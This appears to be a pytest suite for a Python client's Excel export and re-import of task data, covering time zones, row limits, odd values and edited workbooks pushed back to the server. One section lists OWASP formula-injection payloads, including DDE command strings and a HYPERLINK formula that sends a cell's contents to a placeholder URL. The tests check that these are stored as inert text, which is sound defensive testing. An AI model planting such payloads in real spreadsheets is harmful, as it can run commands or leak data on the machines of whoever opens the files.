"""Excel out: real datetimes in the chosen zone, times of day, lists joined, objects
flattened, a typed header with filter and frozen panes, child tables on their own sheets,
large exports streamed and continued on further sheets."""

from __future__ import annotations

import datetime as dt
from pathlib import Path
from typing import Any

import numpy as np
import openpyxl
import pandas as pd
import pyarrow as pa
import pytest

import milekit
from milekit.files import excel, excel_read
from milekit.sandbox import Sandbox


@pytest.fixture(scope="module")
def tasks(sandbox: Sandbox) -> pd.DataFrame:
    with milekit.Client(sandbox.token, sandbox.url, limiter="process") as c:
        return milekit.tasks_frame(client=c, progress=False)


@pytest.fixture(scope="module")
def sheet(tasks: pd.DataFrame, tmp_path_factory: pytest.TempPathFactory) -> object:
    path = milekit.to_excel(tasks, tmp_path_factory.mktemp("xlsx") / "t.xlsx", tz="Asia/Jakarta")
    return openpyxl.load_workbook(path)["tasks"]


def _header(ws: object) -> list[str]:
    return [c.value for c in ws[1]]  # type: ignore[index]


def _column(ws: object, name: str) -> list[object]:
    col = _header(ws).index(name)
    return [row[col] for row in ws.iter_rows(min_row=2, values_only=True)]  # type: ignore[attr-defined]


def test_datetimes_are_excel_datetimes_in_the_chosen_zone(
    tasks: pd.DataFrame, tmp_path: Path
) -> None:
    path = milekit.to_excel(tasks, tmp_path / "t.xlsx", tz="Asia/Jakarta")
    ws = openpyxl.load_workbook(path)["tasks"]
    got = _column(ws, "createdTime (Asia/Jakarta)")
    want = tasks["createdTime"].dt.tz_convert("Asia/Jakarta").dt.tz_localize(None)
    assert all(isinstance(v, dt.datetime) for v in got)
    assert [pd.Timestamp(v) for v in got] == list(want)
    cell = ws.cell(row=2, column=_header(ws).index("createdTime (Asia/Jakarta)") + 1)
    assert cell.is_date and "yyyy" in cell.number_format
    assert "Datetime, Asia/Jakarta" in ws.cell(row=1, column=cell.column).comment.text


def test_times_lists_objects_and_the_header(tasks: pd.DataFrame, sheet: object) -> None:
    ws: Any = sheet
    header = _header(ws)
    assert header[0] == "_id" and ws.freeze_panes == "B2"
    assert (
        ws.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(header))}{len(tasks) + 1}"
    )
    eta = [v for v in _column(ws, "eta") if v is not None]
    assert eta and all(isinstance(v, dt.time) for v in eta)
    assignees = _column(ws, "assignee")
    want = [", ".join(a) if isinstance(a, list) else None for a in tasks["assignee"]]
    assert assignees == want
    assert "hub.name" in header and "hub" not in header  # objects become columns
    hub_names = _column(ws, "hub.name")
    assert hub_names == [h["name"] if isinstance(h, dict) else None for h in tasks["hub"]]
    assert all(ws.cell(row=1, column=i + 1).font.bold for i in range(len(header)))


def test_totals_match_the_frame(tasks: pd.DataFrame, sheet: object) -> None:
    ws: Any = sheet
    waiting = [v for v in _column(ws, "waitingTime") if v is not None]
    assert sum(waiting) == int(tasks["waitingTime"].sum())
    assert len(_column(ws, "_id")) == len(tasks)


def test_child_tables_go_to_sheets_of_their_own(sandbox: Sandbox, tmp_path: Path) -> None:
    with milekit.Client(sandbox.token, sandbox.url, limiter="process") as c:
        vehicles = milekit.vehicles_frame(client=c, progress=False)
    path = milekit.to_excel(vehicles, tmp_path / "v.xlsx", children=True)
    wb = openpyxl.load_workbook(path)
    caps = milekit.children(vehicles, "capacity")
    child = next(
        n for n, ch in milekit.registry.CHILDREN.items()
        if ch.parent == "vehicles" and ch.path[0] == "capacity"
    )  # fmt: skip
    assert wb.sheetnames[0] == "vehicles"
    assert _header(wb[child])[: len(caps.columns)] == list(caps.columns)
    assert wb[child].max_row == len(caps) + 1
    with pytest.raises(milekit.errors.UsageError, match="no child table"):
        milekit.to_excel(vehicles, tmp_path / "x.xlsx", children=["nope"])


def test_export_streams_a_workbook_and_continues_past_the_row_limit(
    sandbox: Sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(excel, "MAX_ROWS", 1001)  # 1,000 rows and the header a sheet
    with milekit.Client(sandbox.token, sandbox.url, limiter="process") as c:
        info = milekit.export("tasks", tmp_path / "t.xlsx", client=c, progress=False, limit=700)
    wb = openpyxl.load_workbook(info.path, read_only=True)
    assert info.format == "xlsx" and info.rows == 2500
    assert wb.sheetnames == ["tasks", "tasks (2)", "tasks (3)"]
    sizes = [sum(1 for _ in wb[n].iter_rows(min_row=2)) for n in wb.sheetnames]
    assert sizes == [1000, 1000, 500]
    assert all(
        next(wb[n].iter_rows(max_row=1, values_only=True))[0] == "_id" for n in wb.sheetnames
    )


def test_an_unknown_time_zone_is_refused_before_anything_is_sent(
    fresh: Sandbox, tmp_path: Path
) -> None:
    with milekit.Client(fresh.token, fresh.url, limiter=None) as c:
        with pytest.raises(milekit.errors.UsageError, match="time zone"):
            milekit.export("tasks", tmp_path / "t.xlsx", client=c, tz="Mars/Olympus")
    assert list(fresh.app.request_log) == []


# --- what a task's text can do to a workbook -------------------------------------------------

#: OWASP's CSV-injection payloads (cells starting with = + - @ TAB CR, and the DDE forms),
#: plus an Excel error literal that openpyxl would store as an error cell
PAYLOADS = [
    '=HYPERLINK("http://x/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


def _as_read(text: str) -> str:
    """What any XML reader (Excel's included) gives back for ``text``: XML turns a CR into
    a line feed (documented in docs/guides/exporting.md)."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def _retitle(c: milekit.Client, titles: list[str]) -> list[str]:
    """Give the first tasks these titles through the API, as any MileApp user could."""
    ids = list(milekit.tasks_frame(client=c, progress=False).index[: len(titles)])
    for tid, title in zip(ids, titles, strict=True):
        c.request("PATCH", f"/task/{tid}", json={"title": title})
    return ids


def _cells(ws: Any, column: str) -> dict[str, Any]:
    """The cells of ``column`` keyed by the row's first cell (the id)."""
    col = _header(ws).index(column)
    return {row[0].value: row[col] for row in ws.iter_rows(min_row=2)}


def _assert_text(cell: Any, text: str) -> None:
    assert cell.data_type == "s" and cell.value == _as_read(text), (cell.value, cell.data_type)


def test_formula_payloads_in_titles_are_text_in_the_streamed_export(
    fresh: Sandbox, tmp_path: Path
) -> None:
    with milekit.Client(fresh.token, fresh.url, limiter=None) as c:
        ids = _retitle(c, PAYLOADS)
        info = milekit.export("tasks", tmp_path / "t.xlsx", client=c, progress=False)
    for read_only in (False, True):
        wb = openpyxl.load_workbook(info.path, read_only=read_only)
        cells = _cells(wb["tasks"], "title")
        for tid, text in zip(ids, PAYLOADS, strict=True):
            _assert_text(cells[tid], text)


def test_formula_payloads_are_text_everywhere_in_to_excel(fresh: Sandbox, tmp_path: Path) -> None:
    """Data cells, a header, a flattened object's column and a child table's sheet."""
    with milekit.Client(fresh.token, fresh.url, limiter=None) as c:
        ids = _retitle(c, PAYLOADS)
        df = milekit.tasks_frame(client=c, progress=False)
    df["histories"] = None  # left out of the list (note 14): a history per payload
    for tid, text in zip(ids, PAYLOADS, strict=True):
        df.at[tid, "hub"] = {**df.at[tid, "hub"], "name": text}
        df.at[tid, "histories"] = [{"_id": "h", "action": "patch", "notes": text}]
    df = df.rename(columns={"content": "=cmd|' /C calc'!A0"})
    path = milekit.to_excel(df, tmp_path / "t.xlsx", children=["task_histories"])
    wb = openpyxl.load_workbook(path)
    ws = wb["tasks"]
    header = next(c for c in ws[1] if c.value == "=cmd|' /C calc'!A0")
    assert header.data_type == "s"
    titles, hubs = _cells(ws, "title"), _cells(ws, "hub.name")
    notes = {}
    for row in wb["task_histories"].iter_rows(min_row=2):
        notes.setdefault(row[0].value, row[_header(wb["task_histories"]).index("notes")])
    for tid, text in zip(ids, PAYLOADS, strict=True):
        for cell in (titles[tid], hubs[tid], notes[tid]):
            _assert_text(cell, text)
    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_a_control_character_is_replaced_and_warned_once(fresh: Sandbox, tmp_path: Path) -> None:
    """A BEL in one title made the whole organisation's Excel export fail."""
    with milekit.Client(fresh.token, fresh.url, limiter=None) as c:
        ids = _retitle(c, ["ring\u0007bell", "two\x00\x1f"])
        with pytest.warns(excel.ControlCharacterWarning, match=r"title: 2 cells") as got:
            info = milekit.export("tasks", tmp_path / "t.xlsx", client=c, progress=False)
    assert len(got) == 1
    cells = _cells(openpyxl.load_workbook(info.path)["tasks"], "title")
    assert cells[ids[0]].value == "ring\ufffdbell" and cells[ids[1]].value == "two\ufffd\ufffd"


@pytest.mark.filterwarnings("always::milekit.MileWarning")
def test_cli_export_of_a_control_character_writes_the_workbook(
    fresh: Sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: Any
) -> None:
    from milekit.cli import main

    with milekit.Client(fresh.token, fresh.url, limiter=None) as c:
        _retitle(c, ["ring\u0007bell"])
    monkeypatch.setenv("MILEAPP_TOKEN", fresh.token)
    out = tmp_path / "t.xlsx"
    args = ["export", "tasks", "-o", str(out), "--base-url", fresh.url, "--no-progress"]
    assert main(args) == 0
    err = capsys.readouterr().err
    assert "milekit: warning:" in err and "title: 1 cell" in err
    assert "ring\ufffdbell" in _column(openpyxl.load_workbook(out)["tasks"], "title")


# --- values Excel cannot hold as they are ----------------------------------------------------


def _one(df: pd.DataFrame, tmp_path: Path, **kw: Any) -> list[Any]:
    """Write ``df`` alone; its cells, row by row, header first."""
    path = milekit.to_excel(df, tmp_path / "x.xlsx", **kw)
    ws = openpyxl.load_workbook(path).active
    return [[c for c in row] for row in ws.iter_rows()]


def test_integers_beyond_2_53_are_written_as_their_digits(tmp_path: Path) -> None:
    big = [2**53, None, 2**53 + 1, -(2**53) - 1, 2**63 - 1]
    rows = _one(pd.DataFrame({"n": pd.array(big, dtype="Int64")}), tmp_path)
    got = [(r[0].value, r[0].data_type) for r in rows[1:]]
    assert got == [
        (2**53, "n"),
        (None, "n"),
        (str(2**53 + 1), "s"),
        (str(-(2**53) - 1), "s"),
        (str(2**63 - 1), "s"),
    ]
    rows = _one(pd.DataFrame({"u": np.array([1, 2**64 - 1], dtype="uint64")}), tmp_path)
    assert [r[0].value for r in rows[1:]] == [1, str(2**64 - 1)]


def test_infinities_and_nan_are_written_as_text(tmp_path: Path) -> None:
    x = pa.array([float("inf"), None, float("-inf"), float("nan"), 1.5])
    rows = _one(pd.DataFrame({"x": pd.array(x, dtype=pd.ArrowDtype(pa.float64()))}), tmp_path)
    assert [r[0].value for r in rows[1:]] == ["inf", None, "-inf", "nan", 1.5]


def test_naive_datetimes_are_written_as_given_never_shifted(tmp_path: Path) -> None:
    naive = pd.to_datetime(["2026-01-01 10:00", None])
    aware = pd.to_datetime(["2026-01-01 10:00"] * 2).tz_localize("UTC")
    rows = _one(pd.DataFrame({"t": naive, "u": aware}), tmp_path, tz="Asia/Jakarta")
    assert [c.value for c in rows[0]] == ["t", "u (Asia/Jakarta)"]
    assert rows[1][0].value == dt.datetime(2026, 1, 1, 10) and rows[2][0].value is None
    assert rows[1][1].value == dt.datetime(2026, 1, 1, 17)


def test_bytes_durations_and_periods_are_written_as_text(tmp_path: Path) -> None:
    df = pd.DataFrame(
        {
            "b": [b"\x00\xffA", None],
            "d": pd.to_timedelta(["1h 2s", None]),
            "p": pd.period_range("2026-01", periods=2, freq="M"),
            "a": pd.array(
                pa.array([dt.timedelta(days=2), None], pa.duration("us")),
                dtype=pd.ArrowDtype(pa.duration("us")),
            ),
        }
    )
    rows = _one(df, tmp_path)
    values = [[c.value for c in r] for r in rows[1:]]
    assert values == [
        ["00ff41", "P0DT1H0M2S", "2026-01", "P2DT0H0M0S"],
        [None, None, "2026-02", None],
    ]


def test_text_beyond_the_cell_limit_is_refused_before_the_file_appears(tmp_path: Path) -> None:
    df = pd.DataFrame(
        {"note": ["ok", "x" * (excel.MAX_TEXT + 1)]}, index=pd.Index(["a", "b"], name="_id")
    )
    target = tmp_path / "x.xlsx"
    with pytest.raises(milekit.errors.UsageError, match=r"'note'.*row 3 \(_id 'b'\).*32,767"):
        milekit.to_excel(df, target)
    assert list(tmp_path.iterdir()) == []
    df.iloc[1, 0] = "x" * excel.MAX_TEXT  # exactly at the limit: written whole
    rows = _one(df, tmp_path)
    assert len(rows[2][1].value) == excel.MAX_TEXT


def test_duplicate_column_names_are_refused_naming_them(tmp_path: Path) -> None:
    df = pd.DataFrame([[1, 2, 3]], columns=["a", "b", "a"])
    with pytest.raises(milekit.errors.UsageError, match=r"duplicate column names.*'a'"):
        milekit.to_excel(df, tmp_path / "x.xlsx")
    nested = pd.DataFrame({"hub": [{"name": "x"}], "hub.name": ["y"]})
    with pytest.raises(milekit.errors.UsageError, match=r"'hub.name'"):
        milekit.to_excel(nested, tmp_path / "x.xlsx")
    assert list(tmp_path.iterdir()) == []


def test_a_sheet_name_with_a_control_character_still_opens(tmp_path: Path) -> None:
    path = milekit.to_excel({"hub\u0007a": pd.DataFrame({"x": [1]})}, tmp_path / "x.xlsx")
    assert openpyxl.load_workbook(path).sheetnames == ["hub_a"]


def test_an_export_with_text_beyond_the_cell_limit_leaves_no_file(
    fresh: Sandbox, tmp_path: Path
) -> None:
    with milekit.Client(fresh.token, fresh.url, limiter=None) as c:
        (tid,) = _retitle(c, ["x" * 40_000])
        with pytest.raises(milekit.errors.UsageError, match=rf"'title'.*{tid}.*40,000"):
            milekit.export("tasks", tmp_path / "t.xlsx", client=c, progress=False)
    assert list(tmp_path.iterdir()) == []


# --- every sheet records its used range (<dimension>, issue 21 item 9) ----------------------


def _dimensions(path: Path) -> dict[str, str]:
    """{sheet title: the ``ref`` of its ``<dimension>`` element ("" when missing)}, read
    from the workbook's XML itself."""
    import re
    import zipfile

    with zipfile.ZipFile(path) as z:
        book = z.read("xl/workbook.xml").decode()
        titles = re.findall(r'<sheet [^>]*name="([^"]*)"', book)
        out = {}
        for i, title in enumerate(titles, 1):
            head = z.read(f"xl/worksheets/sheet{i}.xml")[:4096].decode(errors="replace")
            found = re.search(r'<dimension ref="([^"]*)"\s*/>', head)
            out[title] = found.group(1) if found else ""
    return out


def _used_ranges(path: Path) -> dict[str, str]:
    """What openpyxl finds from the cells themselves (a full load)."""
    wb = openpyxl.load_workbook(path)
    return {ws.title: ws.calculate_dimension() for ws in wb.worksheets}


def test_the_streamed_export_records_each_sheets_dimension(
    sandbox: Sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(excel, "MAX_ROWS", 1001)  # 1,000 rows and the header a sheet
    with milekit.Client(sandbox.token, sandbox.url, limiter="process") as c:
        info = milekit.export("tasks", tmp_path / "t.xlsx", client=c, progress=False, limit=700)
    dims = _dimensions(info.path)
    assert dims == _used_ranges(info.path)
    last = [ref.split(":")[1] for ref in dims.values()]
    assert [ref.rstrip("0123456789") for ref in last] == [last[0].rstrip("0123456789")] * 3
    assert [int(ref[len(ref.rstrip("0123456789")) :]) for ref in last] == [1001, 1001, 501]
    ro = openpyxl.load_workbook(info.path, read_only=True)  # read-only mode trusts it
    assert [ro[n].max_row for n in ro.sheetnames] == [1001, 1001, 501]


def test_to_excel_records_each_sheets_dimension(tasks: pd.DataFrame, tmp_path: Path) -> None:
    frames = {"tasks": tasks, "none": tasks.iloc[:0], "small": pd.DataFrame({"n": [1, 2, 3]})}
    path = milekit.to_excel(frames, tmp_path / "t.xlsx")
    dims = _dimensions(path)
    assert dims == _used_ranges(path)
    assert dims["small"] == "A1:A4" and dims["none"].endswith("1")
    assert dims["tasks"].endswith(str(len(tasks) + 1))


def test_a_lone_string_in_a_list_column_is_a_one_item_list_in_to_excel(
    tasks: pd.DataFrame, tmp_path: Path
) -> None:
    """``df.loc[mask, "label"] = "Return"`` puts a str where the frame holds lists: the
    workbook shows it as the one-item list it stands for, and the other rows' lists stay
    joined (not JSON because the column became mixed)."""
    edited = tasks.copy()
    mask = edited["status"] == "DONE"
    edited.loc[mask, "label"] = "Return"
    assert {type(v) for v in edited.loc[mask, "label"]} == {str}  # what pandas does
    path = milekit.to_excel(edited, tmp_path / "t.xlsx")
    ws = openpyxl.load_workbook(path)["tasks"]
    header = [c.value for c in ws[1]]
    col = header.index("label")
    got = {r[0]: r[col] for r in ws.iter_rows(min_row=2, values_only=True)}
    for tid, labels in edited["label"].items():
        want = labels if isinstance(labels, str) else ", ".join(labels)
        assert got[tid] == (want or None), (tid, labels, got[tid])


# --- reading a workbook back (issue 21, item 5) ------------------------------------------------


def _edit_like_a_person(path: Path, edits: dict[tuple[str, str], Any]) -> None:
    """Open the workbook with openpyxl, set cells by (id, header), save it (as a person
    would in a spreadsheet: typed values, a cleared cell)."""
    wb = openpyxl.load_workbook(path)
    ws = wb.worksheets[0]
    header = _header(ws)
    rows = {r[0].value: r[0].row for r in ws.iter_rows(min_row=2, max_col=1)}
    for (rid, label), value in edits.items():
        ws.cell(rows[rid], header.index(label) + 1).value = value
    wb.save(path)


def _person_edits(ids: list[str]) -> dict[tuple[str, str], Any]:
    return {
        (ids[0], "startTime (Asia/Jakarta)"): dt.datetime(2027, 3, 1, 9, 30),  # a date cell
        (ids[1], "waitingTime"): 42,  # a number
        (ids[2], "label"): "Fragile, COD",  # a list cell
        (ids[3], "content"): None,  # a cleared cell
    }


def _check_server(sb: Sandbox, ids: list[str]) -> None:
    docs = [sb.store.get("tasks", i) for i in ids]
    start = pd.Timestamp(docs[0]["startTime"])
    assert start == pd.Timestamp("2027-03-01 09:30", tz="Asia/Jakarta")  # 02:30 UTC
    assert docs[1]["waitingTime"] == 42
    assert docs[2]["label"] == ["Fragile", "COD"]
    assert docs[3].get("content") is None


def test_a_workbook_edited_by_a_person_pushes_back(fresh: Sandbox, tmp_path: Path) -> None:
    # before: there was no way to read a workbook back (milekit.read_excel did not exist)
    with milekit.Client(fresh.token, fresh.url, limiter="process") as c:
        path = milekit.export(
            "tasks", tmp_path / "tasks.xlsx", client=c, progress=False, tz="Asia/Jakarta"
        ).path
        back = milekit.read_excel(path)
        assert milekit.push(back, client=c, dry_run=True, progress=False).plan.cells == 0
        ids = [str(i) for i in back.index[:4]]
        _edit_like_a_person(path, _person_edits(ids))
        edited = milekit.read_excel(path)
        assert str(edited["waitingTime"].dtype) == "Int64"
        before = len(fresh.store.write_log)
        r = milekit.push(edited, client=c, progress=False)
    assert r.ok and r.counts["ok"] == 4 and r.counts["unchanged"] == len(back) - 4, r
    assert sorted(str(w["id"]) for w in fresh.store.write_log[before:]) == sorted(ids)
    _check_server(fresh, ids)


def test_cli_pushes_an_edited_workbook(
    fresh: Sandbox,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    # before: "tasks.xlsx.schema.json is missing" (the workbook was read as a CSV)
    from milekit.cli import main

    monkeypatch.setenv("MILEAPP_TOKEN", fresh.token)
    with milekit.Client(fresh.token, fresh.url, limiter="process") as c:
        df = milekit.tasks_frame(client=c, progress=False)
    path = milekit.to_excel(df, tmp_path / "tasks.xlsx", tz="Asia/Jakarta")
    ids = [str(i) for i in df.index[:4]]
    _edit_like_a_person(path, _person_edits(ids))
    args = ["push", "tasks", str(path), "--base-url", fresh.url, "--no-journal"]
    assert main(args) == 0
    assert "ok 4" in capsys.readouterr().out
    _check_server(fresh, ids)


def test_a_workbook_reads_back_as_the_frame(tasks: pd.DataFrame, tmp_path: Path) -> None:
    path = milekit.to_excel(tasks, tmp_path / "t.xlsx", tz="Asia/Jakarta")
    back = milekit.read_excel(path)
    assert back.index.name == "_id" and list(back.index) == list(tasks.index)
    assert back.dtypes.to_dict() == tasks.dtypes.to_dict()
    for name in ("startTime", "updatedTime", "title", "waitingTime", "eta", "status"):
        assert back[name].equals(tasks[name]), name
    assert back["hub"].tolist() == tasks["hub"].tolist()  # objects folded back
    assert back.attrs["milekit"]["resource"] == "tasks"


def test_what_a_cell_cannot_hold_is_not_taken_for_an_edit(fresh: Sandbox, tmp_path: Path) -> None:
    # before: the U+FFFD written for a control character went back as an edit of the title
    with milekit.Client(fresh.token, fresh.url, limiter="process") as c:
        first = str(milekit.tasks_frame(client=c, progress=False).index[0])
        c.request("PATCH", f"/task/{first}", json={"title": "bell\x07 in the title"})
        with pytest.warns(excel.ControlCharacterWarning):
            path = milekit.export("tasks", tmp_path / "t.xlsx", client=c, progress=False).path
        back = milekit.read_excel(path)
        assert back.at[first, "title"] == "bell\ufffd in the title"
        plan = milekit.push(back, client=c, dry_run=True, progress=False).plan
    assert plan.cells == 0 and plan.conflicts == 0
    assert excel_read._number("9007199254740993") == 2**53 + 1  # digits kept exact
